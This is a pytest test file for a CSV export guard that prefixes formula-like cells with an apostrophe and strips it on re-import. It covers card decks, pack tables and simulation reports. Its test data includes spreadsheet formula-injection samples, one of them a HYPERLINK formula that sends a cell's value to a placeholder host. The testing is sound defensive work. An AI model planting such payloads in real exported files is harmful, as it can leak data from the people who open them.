"""No cell that we write is a formula, and what we write is read again as it was."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from companion.games.decks import Deck, DeckCard
from companion.packs.decks.deck_import.reading import read_bytes, read_deck
from companion.packs.decks.deck_import.writing import as_table, files_of, has_guards
from companion.packs.editing.own import as_csv
from companion.packs.sources.csv_guard import guarded, unguarded
from companion.packs.sources.csv_source import read_csv
from companion.plainfile.marks import plain
from companion.plainfile.problems import Problems
from companion.simulate.report import Figures, Report, share

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://x/?"&A1;"more")',
    "+49 30 1",
    "-2+3",
    "- one\n- two",
    "@SUM(A1)",
    "'=already",
    "''=twice",
    "-",
    "+1",
    "\uff1d1",
    "-2,5+1",
)
PLAIN = ("-3", "-2,5", "0", "12", "'quoted'", "'tis", "Größe", "a=b", "1-2", "–", "")


def cells(table: bytes | str) -> list[str]:
    text = table.decode("utf-8-sig") if isinstance(table, bytes) else table
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_formula(cell: str) -> bool:
    """As spreadsheets see it; a number is none."""
    return cell[:1] in tuple("=+-@\t\r\n\uff1d\uff0b\uff20\uff0d") and not cell[1:].replace(",", "").isdecimal()


@pytest.mark.parametrize("text", [*FORMULAS, "\tx", "\rx", "\nx"])
def test_a_formula_gets_an_apostrophe_and_loses_it(text: str) -> None:
    assert guarded(text) == f"'{text}"
    assert unguarded(guarded(text)) == text


@pytest.mark.parametrize("text", PLAIN)
def test_a_number_and_any_other_text_stay(text: str) -> None:
    assert guarded(text) == text == unguarded(text)


@pytest.mark.parametrize("text", FORMULAS)
def test_a_deck_comes_back_as_it_was_and_holds_no_formula(text: str, tmp_path: Path) -> None:
    card = DeckCard(
        "".join(text.split()),
        {"de": text, "en": "-3"},
        count=2,
        text={"de": text},
        effect={"de": text},
        tags=(text.replace(",", "").replace(";", "").replace("\n", " "),),
        extra={f"@{text}".replace("\n", ""): text, "points": "-3"},
    )
    deck = Deck("mine", {"de": "Meins"}, (card,))
    for name, content in files_of(deck).items():
        (tmp_path / name).write_bytes(content)
    written = cells(as_table(deck.cards))
    assert not any(map(is_formula, written)), written
    assert has_guards(deck.cards)
    assert "-3" in written, "a number stays a number"
    reading = read_deck(tmp_path, "de")
    assert reading.errors == () and reading.deck == deck
    assert not any(finding.code == "formula" for finding in reading.warnings), "it is no formula there"


def test_a_deck_without_formulas_has_no_guards() -> None:
    assert not has_guards([DeckCard("a", {"en": "It's 2-3"}, extra={"points": "-3"})])


def test_a_formula_that_a_spreadsheet_has_written_is_told_still() -> None:
    reading = read_bytes(b"title,text\nx,=A1+B1\n", "a.csv", "en")
    assert [finding.code for finding in reading.warnings] == ["formula"]


@pytest.mark.parametrize("text", [text for text in FORMULAS if "\n" not in text])
def test_a_pack_s_table_comes_back_as_it_was_and_holds_no_formula(text: str) -> None:
    rows: list[dict[str, Any]] = [
        {"id": text, "points": -3, "part": 2.5, "note": text, "list": [text, -1], "title": {"de": text, "en": "x"}}
    ]
    table = as_csv(rows)
    assert not any(map(is_formula, cells(table))), table
    assert "-3" in cells(table)
    problems = Problems()
    node = read_csv(table.encode(), "f.csv", problems)
    assert not problems, problems.sorted()
    assert node is not None and plain(node) == rows


def test_a_simulation_s_table_holds_no_formula() -> None:
    numbers = Figures(-1.5, -3, -2, 0)
    told = Report(
        *("x", 1, 1, numbers, (share("=bot", 1, 1),), ()), *((("@end", 1),), (("-R", 1),), (), (("points", numbers),))
    )
    assert not any(is_formula(cell) and not cell[1:].replace(".", "").isdecimal() for cell in cells(told.csv()))
    assert "-1.5" in cells(told.csv())


def test_a_map_that_is_no_text_in_languages_stands_in_one_cell() -> None:
    assert as_csv([{"id": "a", "text": {"en": "x", "size": 1}}]) == 'id,text\na,"{en: x, size: 1}"\n'
